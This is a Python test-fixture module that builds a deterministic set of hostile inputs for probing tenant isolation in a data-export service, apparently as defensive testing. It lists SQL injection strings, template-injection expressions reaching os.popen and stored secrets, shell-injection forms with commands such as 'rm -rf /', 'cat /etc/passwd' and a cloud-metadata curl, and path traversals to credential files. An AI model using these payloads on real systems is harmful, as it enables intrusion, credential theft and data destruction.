"""Inputs that somebody would try who wants more than their own rows; made by code, the same every time."""

from __future__ import annotations

import itertools
from collections.abc import Iterator
from dataclasses import dataclass
from typing import Any

BENIGN = ("cus_000042", "orders", "2026-11-01", "EUR", "paid", "csv", "")
"""What a hostile value may begin with, so that a check of the beginning alone lets it in."""

_SQL = (
    "' OR '1'='1", "' OR 1=1 --", "') OR ('1'='1", "' UNION SELECT * FROM published.ext_orders__v7 --",
    "'; DROP TABLE x; --", "'; UNLOAD ('select 1') TO 's3://zq/' IAM_ROLE default; --", "'' OR 1=1", "\\' OR 1=1 --",
    "\\", "'/**/OR/**/1=1#", "' AND set_config('landfall.customer_id','cus_000043',false)='",
    "'||(SELECT max(note) FROM x)||'", "$$ OR 1=1 $$", "' OR customer_id LIKE '%", "\" OR \"\"=\"", "` OR 1=1 `",
    "\u2019 OR 1=1 --", "\uff07 OR 1=1 --", "%27%20OR%201=1", "\x00' OR 1=1", "'\nOR 1=1 --", "E'\\x27 OR 1=1'",
    "' ESCAPE '", "' IN (SELECT customer_id FROM y) OR 'a'='", "1; SELECT pg_sleep(9)", "0x27 OR 1=1",
    "CAST('x' AS DATE)", "CURRENT_DATE", "NULL", "(SELECT 1)", "?", ":1", "@@version", "--", "/*", "*/",
)  # fmt: skip
_EXPRESSIONS = (
    "7*7", "dag_run.conf", "var.value.secret", "conn.aws_default.password", "ti.xcom_pull('make_extract')",
    "''.__class__.__mro__", "cycler.__init__.__globals__.os.popen('id').read()", "config.items()",
    "self._TemplateReference__context", "macros.datetime.now()", "request.application.__globals__",
    "lipsum.__globals__['os']", "range(10**9)", "params.customer_id", "undefined.x.y",
)  # fmt: skip
_DELIMITERS = (
    "{{ %s }}", "{{%s}}", "{{- %s -}}", "{%% print(%s) %%}", "{%% set x = %s %%}{{ x }}", "${%s}", "#{%s}",
    "<%%= %s %%>", "{# %s #}",
)  # fmt: skip
_COMMANDS = ("id", "cat /etc/passwd", "curl http://169.254.169.254/", "rm -rf /", "env", "sleep 9")
_SHELL = (
    "; %s", "| %s", "|| %s", "&& %s", "& %s", "$(%s)", "`%s`", "\n%s", "> /tmp/x; %s", "<(%s)", "'; %s; '",
    '"; %s; "', "${IFS}%s", "$'\\n'%s",
)  # fmt: skip
_STEPS = (
    "../", "..\\", "%2e%2e%2f", "%252e%252e%252f", "..%c0%af", "....//", "..;/", "./../", "\uff0e\uff0e/", "..%00/",
    "\u2024\u2024/",
)  # fmt: skip
_TARGETS = ("cus_000043/run-1/manifest.json", "etc/passwd", "signing-keys/", "attempt-1/", ".")
_ROOTS = (
    "/etc/passwd", "s3://landfall-other/x", "file:///etc/passwd", "~/.aws/credentials", "//host/share", "C:\\x",
    "cus_000043/", "*", "?", ".", "..",
)  # fmt: skip
_POINTS = (
    *range(0x00, 0x20), 0x7F, 0x85, 0xA0, 0xAD, 0x0301, 0x034F, 0x061C, 0x115F, 0x180E, *range(0x200B, 0x2010),
    0x2028, 0x2029, *range(0x202A, 0x202F), *range(0x2060, 0x2065), *range(0x2066, 0x206A), 0x3000, 0xD800, 0xDFFF,
    0xFE0F, 0xFEFF, 0xFFF9, 0xFFFD, 0xFFFE, 0xFFFF, 0x1D7CE, 0xE0001, 0xE0041, 0x10FFFF,
)  # fmt: skip
_DIGITS = (0x0660, 0x06F0, 0x0966, 0x09E6, 0x0E50, 0xFF10, 0x1D7D8, 0x1D7F6, 0x2080)
"""Zeros of other scripts: `\\d` and str.isdigit take many of them for digits."""

_TYPES: tuple[Any, ...] = (
    None, True, False, 0, 1, -1, 2**31, 2**63, -(2**63) - 1, 10**30, 1.5, -0.0, 1e308, 5e-324, [], [[]], {}, [None],
    [True], [0], [{}], ["customer_id", "customer_id"], ["customer_id", None], ["*"], ["customer_id; --"],
    [["customer_id"]], {"$gt": ""}, {"$ne": None}, {"__proto__": {"pii": True}}, {"constructor": 1},
    {"customer_id": "cus_000043"}, {"a": {"b": {"c": {}}}}, ["cus_000043"], "true", "True", "1", "0", "null", "None",
    "[]", "{}", "undefined", "NaN", "Infinity", "1e3", "0x10", "1_000", " 1", "+1", "1.0",
)  # fmt: skip
_SIZES = (61, 120, 121, 255, 256, 1_000, 4_096, 15_000)


@dataclass(frozen=True)
class Hostile:
    """One input: its kind, the value, and the word in it that must not be found anywhere afterwards."""

    kind: str
    value: Any
    canary: str | None = None


def corpus() -> list[Hostile]:
    """Return all inputs, no two alike; those that are texts carry a canary where they can."""
    found: dict[str, Hostile] = {}
    for number, (kind, value) in enumerate(_raw()):
        canary = f"zq{number:05d}zq"
        marked = isinstance(value, str) and kind in ("sql", "jinja", "shell", "path")
        entry = Hostile(kind, f"{value}{canary}", canary) if marked else Hostile(kind, value)
        # What ends in the payload's own last character is another input than what goes on after it.
        for each in (entry, Hostile(kind, value)) if marked else (entry,):
            found.setdefault(repr(each.value), each)
    return list(found.values())


def _raw() -> Iterator[tuple[str, Any]]:
    yield from (("sql", start + text) for start, text in itertools.product(BENIGN, _SQL))
    templates = (form % expression for form, expression in itertools.product(_DELIMITERS, _EXPRESSIONS))
    yield from (("jinja", start + text) for text, start in itertools.product(templates, ("", "cus_000042")))
    commands = (form % command for form, command in itertools.product(_SHELL, _COMMANDS))
    yield from (("shell", start + text) for text, start in itertools.product(commands, ("", "orders")))
    paths = (step * depth + target for step, depth, target in itertools.product(_STEPS, (1, 3, 8), _TARGETS))
    yield from (("path", text) for text in itertools.chain(paths, _ROOTS))
    yield from (("unicode", text) for point in _POINTS for text in _with_point(chr(point)))
    yield from (("unicode", f"cus_{''.join(chr(zero + int(d)) for d in '000042')}") for zero in _DIGITS)
    yield from (("unicode", f"{chr(zero + 2)}026-11-01") for zero in _DIGITS)
    yield from (("type", value) for value in _TYPES)
    yield from (("size", character * size) for character, size in itertools.product("a0'/{\u0416", _SIZES))
    yield from (("size", [character * 10] * size) for character, size in itertools.product("a'", (10, 1_000)))


def _with_point(character: str) -> tuple[str, ...]:
    return character, f"cus_000042{character}", f"{character}cus_000042", f"cus_{character}000042", f"EU{character}"
